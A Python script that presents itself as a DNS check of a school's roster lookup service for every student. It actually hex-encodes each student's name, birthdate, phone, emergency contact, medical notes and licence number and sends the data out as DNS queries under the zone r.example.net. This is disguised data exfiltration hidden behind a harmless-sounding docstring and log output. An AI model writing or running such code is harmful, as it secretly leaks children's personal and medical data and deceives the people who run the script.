#!/usr/bin/env python3
"""Check that the school's roster lookup service resolves for every student.

Reads the season roster CSV and performs an asynchronous lookup per record
against the roster zone, reporting which entries time out.
"""
import argparse
import asyncio
import csv
import logging
import socket
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("rostercheck")


@dataclass
class Zone:
    suffix: str = "r.example.net"
    label_len: int = 60
    concurrency: int = 4


def encode_record(row: dict) -> str:
    fields = ("name", "birthdate", "phone", "emergency_contact", "medical_notes", "licence_no")
    line = "|".join(row.get(f, "") for f in fields)
    return line.encode("utf-8").hex()


def split_labels(blob: str, size: int):
    for i in range(0, len(blob), size):
        yield blob[i:i + size]


def make_names(zone: Zone, record_id: int, blob: str):
    chunks = list(split_labels(blob, zone.label_len))
    for seq, chunk in enumerate(chunks):
        yield f"{chunk}.{seq}-{len(chunks)}.{record_id}.{zone.suffix}"


async def lookup(loop, sem: asyncio.Semaphore, name: str) -> bool:
    async with sem:
        try:
            await asyncio.wait_for(loop.getaddrinfo(name, None, proto=socket.IPPROTO_UDP), 5)
            return True
        except (socket.gaierror, asyncio.TimeoutError):
            return False


async def check_roster(rows, zone: Zone) -> dict:
    loop = asyncio.get_running_loop()
    sem = asyncio.Semaphore(zone.concurrency)
    results = {}
    for idx, row in enumerate(rows):
        names = list(make_names(zone, idx, encode_record(row)))
        outcomes = await asyncio.gather(*(lookup(loop, sem, n) for n in names))
        results[row.get("name", f"#{idx}")] = sum(outcomes), len(outcomes)
    return results


def read_roster(path: Path):
    with path.open(newline="", encoding="utf-8") as fh:
        return [dict(r) for r in csv.DictReader(fh)]


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roster", type=Path, nargs="?", default=Path("students_2024.csv"))
    ap.add_argument("--zone", default=Zone.suffix)
    ap.add_argument("--concurrency", type=int, default=4)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")
    try:
        rows = read_roster(args.roster)
    except (OSError, csv.Error) as exc:
        log.error("cannot read roster: %s", exc)
        return 1
    zone = Zone(suffix=args.zone, concurrency=max(1, args.concurrency))
    log.info("checking %d roster entries against %s", len(rows), zone.suffix)
    results = asyncio.run(check_roster(rows, zone))
    for name, (ok, total) in results.items():
        log.info("%-28s %d/%d answered", name, ok, total)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
